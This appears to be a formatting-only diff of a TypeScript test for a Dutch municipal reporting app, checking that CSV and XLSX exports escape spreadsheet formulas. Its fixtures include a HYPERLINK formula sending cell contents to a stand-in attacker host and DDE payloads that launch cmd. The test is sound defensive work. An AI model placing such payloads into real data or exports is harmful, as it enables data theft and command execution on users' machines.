@@ -12,7 +12,12 @@ import { ok as paOk, Q } from './prestatieafspraak.helpers';
  * no cell starts with =, +, -, @, tab, CR or LF, and a value starting with `"` is escaped.
  */
 const TITEL = '=HYPERLINK("https://aanvaller.example/?"&A1;"Klik hier")';
-const OMSCHRIJVINGEN = ["+cmd|' /C calc'!A0", '@SUM(1+9)*cmd|x', '"Aanhalingsteken; =1+2" en verder', '-2+3+cmd|x'];
+const OMSCHRIJVINGEN = [
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+9)*cmd|x',
+  '"Aanhalingsteken; =1+2" en verder',
+  '-2+3+cmd|x',
+];
 
 describe('safe exports: formulas from user text are neutralised in a real report (CSV and XLSX)', () => {
   let t: TestApp;
@@ -39,7 +44,13 @@ describe('safe exports: formulas from user text are neutralised in a real report
       [domstad],
     );
     let pa = await paOk(t, 'gemeente.utrecht', Q.create, {
-      i: { gemeenteCode: 'GM0344', titel: TITEL, jaarVan: 2026, jaarTot: 2026, partijIds: [domstad, huurders] },
+      i: {
+        gemeenteCode: 'GM0344',
+        titel: TITEL,
+        jaarVan: 2026,
+        jaarTot: 2026,
+        partijIds: [domstad, huurders],
+      },
     });
     for (const omschrijving of OMSCHRIJVINGEN) {
       pa = await paOk(t, 'gemeente.utrecht', Q.addAfspraak, {
@@ -61,11 +72,18 @@ describe('safe exports: formulas from user text are neutralised in a real report
     }
     expect(pa.status).toBe('VASTGESTELD');
 
-    const aanvraag = await t.ok('gemeente.utrecht', `mutation { vraagKwartaalrapportageAan(gebied: { soort: GEMEENTE, code: "GM0344" }, kwartaal: "2026-Q3") { jobId } }`);
+    const aanvraag = await t.ok(
+      'gemeente.utrecht',
+      `mutation { vraagKwartaalrapportageAan(gebied: { soort: GEMEENTE, code: "GM0344" }, kwartaal: "2026-Q3") { jobId } }`,
+    );
     const klaar = await wachtTot('the report', async () => {
-      const r = await t.ok('gemeente.utrecht', `query ($id: String!) { rapportageAanvraag(jobId: $id) { status rapportages { actielijn bestanden { formaat url } } } }`, {
-        id: aanvraag.vraagKwartaalrapportageAan.jobId,
-      });
+      const r = await t.ok(
+        'gemeente.utrecht',
+        `query ($id: String!) { rapportageAanvraag(jobId: $id) { status rapportages { actielijn bestanden { formaat url } } } }`,
+        {
+          id: aanvraag.vraagKwartaalrapportageAan.jobId,
+        },
+      );
       if (r.rapportageAanvraag.status === 'MISLUKT') throw new Error('report job failed');
       return r.rapportageAanvraag.status === 'GEREED' ? r.rapportageAanvraag : undefined;
     });
@@ -112,7 +130,15 @@ describe('safe exports: formulas from user text are neutralised in a real report
         }),
       ),
     );
-    expect(tekst).toEqual(expect.arrayContaining([`'${TITEL}`, "'+cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|x", "'-2+3+cmd|x", '"Aanhalingsteken; =1+2" en verder']));
+    expect(tekst).toEqual(
+      expect.arrayContaining([
+        `'${TITEL}`,
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+9)*cmd|x",
+        "'-2+3+cmd|x",
+        '"Aanhalingsteken; =1+2" en verder',
+      ]),
+    );
     expect(tekst.filter((c) => /^[=+\-@\t\r\n]/.test(c))).toEqual([]);
     // the unmet statushouders taakstelling: Saldo is a negative number cell, not text
     const sh = wb.getWorksheet('Statushouders')!;
